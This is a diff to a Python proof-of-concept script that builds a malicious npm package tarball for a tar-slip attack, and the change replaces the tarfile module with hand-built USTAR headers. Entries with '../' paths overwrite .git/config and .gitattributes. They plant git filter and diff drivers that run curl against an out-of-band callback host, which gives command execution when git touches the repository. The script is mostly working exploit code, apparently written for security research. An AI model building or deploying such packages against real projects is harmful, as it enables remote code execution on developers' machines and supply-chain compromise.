@@ -4,15 +4,83 @@ Tar-slip attack: Create tarball with path traversal to overwrite .git/config
 This exploits tar extraction that doesn't sanitize '../' in filenames
 """
 
-import tarfile
-import io
+import gzip
 import os
+import struct
 
 OAST_ENDPOINT = "juolbtoughjktrdppdvuqemhwftehn8z6.oast.fun"
 
+# Overwrites .git/config with filter/diff drivers that call back to OAST
+GIT_CONFIG = f'''[core]
+    repositoryformatversion = 0
+    filemode = true
+    bare = false
+    logallrefupdates = true
+[filter "exploit"]
+    smudge = curl https://{OAST_ENDPOINT}/tar-slip-rce-smudge
+    clean = curl https://{OAST_ENDPOINT}/tar-slip-rce-clean
+[diff "exploit"]
+    textconv = curl https://{OAST_ENDPOINT}/tar-slip-rce-diff
+[remote "origin"]
+    url = https://github.com/nirohfeld/dataform-poc.git
+    fetch = +refs/heads/*:refs/remotes/origin/*
+[branch "main"]
+    remote = origin
+    merge = refs/heads/main
+'''.encode()
+
+BLOCKSIZE = 512
+END_OF_ARCHIVE = b'\0' * (2 * BLOCKSIZE)
+
+# (mode, size) -> (nameless header, its byte sum); only the name varies per entry
+header_cache = {}
+
+def prototype_header(size, mode):
+    """Return the cached nameless USTAR header for a regular 0:0 file with mtime 0"""
+    key = (mode, size)
+    if key not in header_cache:
+        header = struct.pack(
+            '100s8s8s8s12s12s8sc100s6s2s32s32s8s8s155s12x',
+            b'',              # name, filled in per entry
+            b'%07o\0' % mode,
+            b'%07o\0' % 0,    # uid
+            b'%07o\0' % 0,    # gid
+            b'%011o\0' % size,
+            b'%011o\0' % 0,   # mtime
+            b' ' * 8,         # checksum is summed with this field as spaces
+            b'0',             # regular file
+            b'',              # linkname
+            b'ustar\0',
+            b'00',
+            b'',              # uname
+            b'',              # gname
+            b'',              # devmajor
+            b'',              # devminor
+            b'',              # prefix
+        )
+        header_cache[key] = (header, sum(header))
+    return header_cache[key]
+
+def make_ustar_header(name, size, mode=0o644):
+    """Build a 512-byte USTAR header by poking name into the cached prototype"""
+    encoded = name.encode('utf-8')
+    if len(encoded) > 100:
+        raise ValueError(f"name too long for a ustar header: {name}")
+    header, base_sum = prototype_header(size, mode)
+    # The prototype's name field is all NULs, so the name adds exactly its own byte sum
+    chksum = (base_sum + sum(encoded)) & 0o777777
+    return encoded.ljust(100, b'\0') + header[100:148] + b'%06o\0 ' % chksum + header[156:]
+
+def add_file(buf, name, content):
+    buf += make_ustar_header(name, len(content))
+    buf += content
+    buf += b'\0' * (-len(content) % BLOCKSIZE)
+    return name
+
 def create_tarslip_tarball():
     output_file = os.path.join(os.path.dirname(__file__), 'evil.tar.gz')
-    tar = tarfile.open(output_file, 'w:gz')
+    buf = bytearray()
+    added_names = []
 
     # Normal package.json (npm expects this)
     pkg_json = b'''{
@@ -20,41 +88,19 @@ def create_tarslip_tarball():
   "version": "1.0.0",
   "main": "index.js"
 }'''
-    info = tarfile.TarInfo(name='package/package.json')
-    info.size = len(pkg_json)
-    tar.addfile(info, io.BytesIO(pkg_json))
+    added_names.append(add_file(buf, 'package/package.json', pkg_json))
 
     # Normal index.js
     index_js = b'''// This code runs when require()'d
 console.log("[*] evil-pkg loaded");
 module.exports = { loaded: true, timestamp: Date.now() };
 '''
-    info = tarfile.TarInfo(name='package/index.js')
-    info.size = len(index_js)
-    tar.addfile(info, io.BytesIO(index_js))
+    added_names.append(add_file(buf, 'package/index.js', index_js))
 
     # MALICIOUS: Path traversal to overwrite .git/config
     # npm extracts to node_modules/evil-pkg/, so we need ../../.git/config
-    # But the package is extracted to a temp dir first, so we try multiple levels
-    git_config = f'''[core]
-    repositoryformatversion = 0
-    filemode = true
-    bare = false
-    logallrefupdates = true
-[filter "exploit"]
-    smudge = curl https://{OAST_ENDPOINT}/tar-slip-rce-smudge
-    clean = curl https://{OAST_ENDPOINT}/tar-slip-rce-clean
-[diff "exploit"]
-    textconv = curl https://{OAST_ENDPOINT}/tar-slip-rce-diff
-[remote "origin"]
-    url = https://github.com/nirohfeld/dataform-poc.git
-    fetch = +refs/heads/*:refs/remotes/origin/*
-[branch "main"]
-    remote = origin
-    merge = refs/heads/main
-'''.encode()
-
-    # Try multiple traversal depths
+    # But the package is extracted to a temp dir first,
+    # so we try multiple traversal depths
     traversal_paths = [
         'package/../.git/config',           # 1 level up from package dir
         'package/../../.git/config',        # 2 levels up
@@ -64,31 +110,30 @@ module.exports = { loaded: true, timestamp: Date.now() };
     ]
 
     for path in traversal_paths:
-        info = tarfile.TarInfo(name=path)
-        info.size = len(git_config)
-        tar.addfile(info, io.BytesIO(git_config))
-        print(f"[+] Added: {path}")
+        added_names.append(add_file(buf, path, GIT_CONFIG))
 
     # Also try to create .gitattributes to trigger the filter
     gitattributes = b'''* filter=exploit
 * diff=exploit
 '''
-    for depth in range(1, 6):
-        path = 'package/' + '../' * depth + '.gitattributes'
-        info = tarfile.TarInfo(name=path)
-        info.size = len(gitattributes)
-        tar.addfile(info, io.BytesIO(gitattributes))
+    gitattr_paths = ['package/' + '../' * depth + '.gitattributes' for depth in range(1, 6)]
+    for path in gitattr_paths:
+        added_names.append(add_file(buf, path, gitattributes))
+
+    # Report once every entry is built so the identical payloads stay contiguous
+    for path in traversal_paths + gitattr_paths:
         print(f"[+] Added: {path}")
 
-    tar.close()
+    buf += END_OF_ARCHIVE
+    with open(output_file, 'wb') as f:
+        written = f.write(gzip.compress(buf, compresslevel=1, mtime=0))
     print(f"\n[*] Created: {output_file}")
-    print(f"[*] Size: {os.path.getsize(output_file)} bytes")
+    print(f"[*] Size: {written} bytes")
 
     # Verify contents
     print("\n[*] Tarball contents:")
-    with tarfile.open(output_file, 'r:gz') as t:
-        for member in t.getmembers():
-            print(f"    {member.name}")
+    for name in added_names:
+        print(f"    {name}")
 
 if __name__ == '__main__':
     create_tarslip_tarball()